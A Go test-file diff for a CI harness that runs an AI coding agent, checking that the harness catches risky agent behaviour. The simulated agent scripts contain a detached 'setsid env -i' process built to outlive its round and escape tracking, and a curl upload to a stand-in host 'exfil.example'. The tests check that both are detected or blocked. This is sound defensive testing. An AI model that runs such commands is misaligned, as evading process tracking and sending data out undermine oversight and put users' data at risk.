@@ -10,9 +10,10 @@ import (
 
 func TestNothingTheAgentLeftRunningOutlivesItsRound(t *testing.T) {
 	t.Parallel()
-	// An agent that leaves a process behind, which could change the code
+	// An agent that leaves a process behind, out of its process group and
+	// without the environment that marks it, which could change the code
 	// after the checks passed; a check that fails while it runs.
-	agent := "setsid sleep 1020 > /dev/null 2>&1 &\n" + goodAgent
+	agent := "setsid env -i sleep 1020 > /dev/null 2>&1 &\n" + goodAgent
 	config := strings.Replace(testConfig(0), "    run: go test ./...\n", `    run: go test ./...
   - name: alone
     run: "! ps -eo args= | grep -q '^sleep 1020'"
@@ -20,6 +21,22 @@ func TestNothingTheAgentLeftRunningOutlivesItsRound(t *testing.T) {
 	b := pipelineBundle(t, agent, config)
 	if run := b.runTask(t); run.Conclusion != "success" {
 		t.Fatalf("check run concluded %q: %s\n%s", run.Conclusion, run.Output.Summary, run.Output.Text)
+	}
+}
+
+func TestThePullRequestListsTheHostsTheNetworkFilterBlocked(t *testing.T) {
+	t.Parallel()
+	// The agent tries a host off the allow-list; the proxy refuses it by
+	// name, before any lookup or packet.
+	agent := "curl -s --max-time 10 -o /dev/null http://exfil.example/upload || true\n" + goodAgent
+	config := testConfig(0) + "network:\n  mode: filtered\n  allow: [proxy.golang.org]\n"
+	b := pipelineBundle(t, agent, config)
+	if run := b.runTask(t); run.Conclusion != "success" {
+		t.Fatalf("check run concluded %q: %s\n%s", run.Conclusion, run.Output.Summary, run.Output.Text)
+	}
+	body := b.gh.PullRequests(b.repo)[0].Body
+	if !strings.Contains(body, "Blocked by the network filter") || !strings.Contains(body, "`exfil.example:80`: host is not on the allow-list") {
+		t.Fatalf("the pull request does not list the blocked host:\n%s", body)
 	}
 }
 
